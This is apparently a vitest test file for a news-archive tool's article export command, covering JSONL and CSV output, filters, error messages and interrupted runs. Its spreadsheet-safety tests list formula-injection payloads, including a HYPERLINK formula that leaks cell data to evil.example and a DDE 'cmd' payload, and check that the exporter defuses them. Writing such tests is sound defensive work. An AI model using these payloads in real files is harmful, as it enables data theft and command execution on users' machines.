import { type ChildProcessByStdio, spawn } from 'node:child_process';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Readable } from 'node:stream';
import { text } from 'node:stream/consumers';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { csvRecord, forSpreadsheets } from '../../../admin/commands/export/csv.ts';
import { createDatabase } from '../../support/database.ts';
import { commandLine } from '../../support/program.ts';
import { wireroomHere } from '../run-here.ts';
import { linesOf } from '../run-wireroom.ts';

const { url, pool } = await createDatabase();
const wireroom = wireroomHere(url);
const folder = await mkdtemp(join(tmpdir(), 'wireroom-export-'));
afterAll(() => rm(folder, { recursive: true, force: true }));

beforeAll(async () => {
  await pool.query(`
    insert into wireroom.sites (domain) values ('harbour.example'), ('inland.example');
    insert into wireroom.articles (site_id, host, url, state, outcome, title, authors, keywords, language, word_count, published_at, ready_at, content_changed_at)
    values
      (1, 'harbour.example', 'https://harbour.example/1', 'ready', 'ok', E'She said: "Back,\\nat last"', '{Maria Santos,"Li, Wei"}', '{}', 'en', 2,
        '2026-03-01T00:00Z', '2026-03-01T10:00Z', null),
      (1, 'harbour.example', 'https://harbour.example/2', 'rejected', 'too_short', null, '{}', '{}', null, null, null, null, null),
      (2, 'inland.example', 'https://inland.example/3', 'ready', 'ok', 'Plain', '{}', '{}', 'de', null, null, '2026-03-02T10:00Z', null),
      (1, 'harbour.example', 'https://harbour.example/4', 'ready', 'ok', 'Corrected \u202ehere', '{}', '{}', 'de', null, null,
        '2026-02-01T10:00Z', '2026-03-04T12:00:00.123Z');
    insert into wireroom.texts (article_id, title, body)
    select id, title, E'One.\\n\\nTwo.' from wireroom.articles where state = 'ready';
    insert into wireroom.entities (type, key, name, ids) values ('place', 'porto-pt', 'Porto', '{"geonames": "2735943"}'),
      ('person', 'maria-santos', 'Maria Santos', '{}');
    insert into wireroom.article_entities (article_id, entity_id, salience, text_spans) values
      (1, 1, 0.25, '{0, 3}'), (1, 2, 0.75, null);
    insert into wireroom.topics (qcode, name) values ('medtop:20000337', 'transport');
    insert into wireroom.article_topics (article_id, qcode, classifier_score) values (1, 'medtop:20000337', 0.5);
  `);
});

const rowsOf = (jsonl: string): { id: number }[] => linesOf(jsonl).map((line) => JSON.parse(line));

test('visible articles are written as one JSON object a line, with their entities and topics', async () => {
  const { code, stdout, stderr } = await wireroom(['export']);
  expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
  expect(rowsOf(stdout).map(({ id }) => id)).toEqual([1, 3, 4]);
  expect(stdout, 'nothing that turns the text on a terminal').not.toContain('\u202e');
  const [first, second, third] = rowsOf(stdout);
  const { rows: columns } = await pool.query(
    `select attname from pg_attribute where attrelid = 'news.articles'::regclass and attnum > 0 order by attnum`,
  );
  // New fields come last, so that the columns of a CSV stay where they are.
  expect(Object.keys(first ?? {}).sort()).toEqual(
    [...columns.map(({ attname }) => attname), 'entities', 'topics', 'media', 'links', 'alternates'].sort(),
  );
  expect(first).toMatchObject({
    site: 'harbour.example',
    title: 'She said: "Back,\nat last"',
    authors: ['Maria Santos', 'Li, Wei'],
    published_at: '2026-03-01T00:00:00+00:00',
    modified_at: null,
    paywalled: false,
    body: 'One.\n\nTwo.',
    entities: [
      { type: 'person', key: 'maria-santos', name: 'Maria Santos', ids: {}, salience: 0.75, mentions: [] },
      {
        key: 'porto-pt',
        ids: { geonames: '2735943' },
        salience: 0.25,
        mentions: [{ in: 'text', start: 0, end: 3, text: 'One' }],
      },
    ],
    topics: [{ qcode: 'medtop:20000337', name: 'transport', publisher_score: null, classifier_score: 0.5 }],
  });
  expect(second).toMatchObject({ entities: [], topics: [] });
  expect(third).toMatchObject({ title: 'Corrected \u202ehere' });
});

test('CSV has a header, CRLF, and quotes where they are needed', async () => {
  const file = join(folder, 'articles.csv');
  const args = ['--format', 'csv', '--fields', 'id, title,authors,word_count,paywalled,topics', '--out', file];
  const run = await wireroom(['export', ...args]);
  expect(run).toEqual({ code: 0, stdout: `3 articles in ${file}\n`, stderr: '' });
  expect(await readFile(file, 'utf8')).toBe(
    [
      'id,title,authors,word_count,paywalled,topics',
      `1,"She said: ""Back,\nat last""","[""Maria Santos"",""Li, Wei""]",2,false,"[{""name"":""transport"",""qcode"":""medtop:20000337"",""publisher_score"":null,""classifier_score"":0.5}]"`,
      '3,Plain,[],,false,[]',
      '4,Corrected here,[],,false,[]',
      '',
    ].join('\r\n'),
  );
});

describe('CSV in a spreadsheet', () => {
  const readBack = (cell: string): string =>
    /^'[\s"'\u200b-\u200f\ufeff]*?[\t\r=+\-@＝＋－＠]/.test(cell) ? cell.slice(1) : cell;

  test.each([
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    '+1+1',
    '-2+3+cmd|" /C calc"!A0',
    '@SUM(1+1)',
    '\t=1+1',
    ' =1+1',
    '"=1+1"',
    "'=1+1",
    "''+1",
    '\ufeff=1+1',
    '\u200b=1+1',
    '\n=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠A1',
    '-5',
  ])('%j is a text, and can be read back', (text) => {
    const [cell] = csvRecord(['title'], { title: text }, forSpreadsheets).split('\r\n');
    const value = cell?.replace(/^"([\s\S]*)"$/, (_, quoted: string) => quoted.replaceAll('""', '"'));
    expect(value).toBe(`'${text}`);
    expect(readBack(value ?? '')).toBe(text);
  });

  test.each(['Plain', 'a=b', "'tis", '1 - 2', '“-', '', '2026-03-04T12:00:00+00:00', '[-1]', '日本'])(
    '%j stays as it is',
    (text) => {
      expect(csvRecord(['title'], { title: text }, forSpreadsheets)).toBe(`${text}\r\n`);
      expect(readBack(text)).toBe(text);
    },
  );

  test('columns of numbers stay numbers', () => {
    expect(csvRecord(['n', 'yes', 'none'], { n: -1.5, yes: true, none: null }, forSpreadsheets)).toBe('-1.5,true,\r\n');
  });

  test('--raw writes everything as it is stored, and is for CSV alone', async () => {
    await pool.query(`update wireroom.articles set title = E'=1+1\u202e' where id = 3`);
    const title = async (...options: string[]) =>
      (await wireroom(['export', '--format', 'csv', '--site', 'inland.example', '--fields', 'title', ...options]))
        .stdout;
    expect(await title()).toBe("title\r\n'=1+1\r\n");
    expect(await title('--raw')).toBe('title\r\n=1+1\u202e\r\n');
    expect(await wireroom(['export', '--raw'])).toEqual({
      code: 2,
      stdout: '',
      stderr: expect.stringContaining("'--raw' needs '--format csv'"),
    });
  });
});

test('articles are chosen by site, language, and when they became visible or changed', async () => {
  const ids = async (...options: string[]): Promise<number[]> =>
    rowsOf((await wireroom(['export', '--fields', 'id', ...options])).stdout).map(({ id }) => id);
  expect(await ids('--site', 'https://www.Harbour.example/')).toEqual([1, 4]);
  expect(await ids('--language', 'DE')).toEqual([3, 4]);
  expect(await ids('--since', '2026-03-02')).toEqual([3, 4]);
  expect(await ids('--since', '2026-03-02T12:00+01:00', '--language', 'de', '--site', 'inland.example')).toEqual([]);
  expect(await ids('--since', '2026-03-02T11:00+01:00', '--site', 'inland.example')).toEqual([3]);
});

test.each([
  ['a field', ['--fields', 'id,tittle'], 'There is no field "tittle"; did you mean title?'],
  ['a list of fields', ['--fields', 'id,id'], '"id" is listed twice.'],
  [
    'a day',
    ['--since', '2026-02-30'],
    'Not an age such as 36h, 7d or 4w, a day such as yesterday or 2026-03-04, or a time with zone such as 2026-03-04T12:00Z.',
  ],
  [
    'a time',
    ['--since', 'monday'],
    'Not an age such as 36h, 7d or 4w, a day such as yesterday or 2026-03-04, or a time with zone such as 2026-03-04T12:00Z.',
  ],
  ['a format', ['--format', 'xml'], 'Allowed choices are jsonl, csv, parquet, ninjs, atom, rss, json-feed.'],
])('wrong usage: %s that is none', async (_, args, message) => {
  const { code, stdout, stderr } = await wireroom(['export', ...args]);
  expect({ code, stdout }).toEqual({ code: 2, stdout: '' });
  expect(stderr).toMatch(/^wireroom: option .* is invalid\. .*\n$/);
  expect(stderr).toContain(`is invalid. ${message}\n`);
});

test('a file that cannot be written gets one line', async () => {
  const missing = join(folder, 'none', 'articles.jsonl');
  const runs = await Promise.all([missing, folder].map((file) => wireroom(['export', '--out', file])));
  expect(runs).toEqual([
    { code: 1, stdout: '', stderr: `wireroom: cannot write ${missing}: no such folder\n` },
    { code: 1, stdout: '', stderr: `wireroom: cannot write ${folder}: it is a folder\n` },
  ]);
});

describe('an export of a thousand long articles', () => {
  beforeAll(async () => {
    await pool.query(`
      insert into wireroom.articles (site_id, host, url, state, outcome, title, ready_at)
      select 1, 'harbour.example', 'https://harbour.example/long/' || n, 'ready', 'ok', 'Long', now() from generate_series(1, 1000) n;
      insert into wireroom.texts (article_id, title, body)
      select id, title, repeat('x ', 25000) from wireroom.articles where title = 'Long'`);
  });

  const sessions = async (): Promise<number | null> =>
    (
      await pool.query(
        `select from pg_stat_activity where datname = current_database() and application_name = 'wireroom command'`,
      )
    ).rowCount;

  /** Starts one and does something as soon as it has written something. */
  const interruptedBy = async (end: (child: ChildProcessByStdio<null, Readable, Readable>) => void) => {
    const child = spawn(process.execPath, [...commandLine(), 'export'], {
      env: { PATH: process.env['PATH'] ?? '', DATABASE_URL: url },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    const complaints = text(child.stderr);
    const exit = new Promise<[number | null, string | null]>((resolve) => {
      child.on('close', (code, signal) => resolve([code, signal]));
    });
    child.stdout.once('data', () => end(child));
    const [code, signal] = await exit;
    // The server notices a moment after the process has gone.
    await expect.poll(sessions).toBe(0);
    return { code, signal, stderr: await complaints };
  };

  test('ends early and without a word when its reader hangs up', async () => {
    const run = await interruptedBy(({ stdout }) => stdout.destroy());
    expect(run).toEqual({ code: 0, signal: null, stderr: '' });
  });

  test('ends early and in order when it is interrupted', async () => {
    const run = await interruptedBy((child) => {
      child.kill('SIGINT');
      child.stdout.resume();
    });
    expect(run).toEqual({ code: null, signal: 'SIGINT', stderr: '' });
  });
});

test('--limit takes the first articles, in every format', async () => {
  expect(rowsOf((await wireroom(['export', '--limit', '2'])).stdout).map(({ id }) => id)).toEqual([1, 3]);
  expect(linesOf((await wireroom(['export', '--format', 'csv', '--fields', 'id', '--limit', '1'])).stdout)).toEqual([
    'id',
    '1',
  ]);
  expect(linesOf((await wireroom(['export', '--format', 'ninjs', '--limit', '1'])).stdout)).toHaveLength(1);
  const file = join(folder, 'limited.parquet');
  expect((await wireroom(['export', '--format', 'parquet', '--limit', '1', '--out', file])).stdout).toBe(
    `1 article in ${file}\n`,
  );
});

test.each([
  [['--topic', 'transprt'], 'there is no topic transprt; did you mean transport?'],
  [['--entity', 'Nobody'], 'there is no entity Nobody'],
  [['--site', 'inlan.example'], 'no feeds or articles of inlan.example; did you mean inland.example?'],
  [['--label', 'none'], 'no feed has the label none'],
  [['--feed', '99'], 'there is no feed 99'],
])('a filter of what does not exist ends an export before it begins: %j', async (filter, reason) => {
  const file = join(folder, 'none.jsonl');
  expect(await wireroom(['export', ...filter, '--out', file])).toEqual({
    code: 2,
    stdout: '',
    stderr: `wireroom: ${reason}\n`,
  });
  await expect(readFile(file)).rejects.toThrow('ENOENT');
});
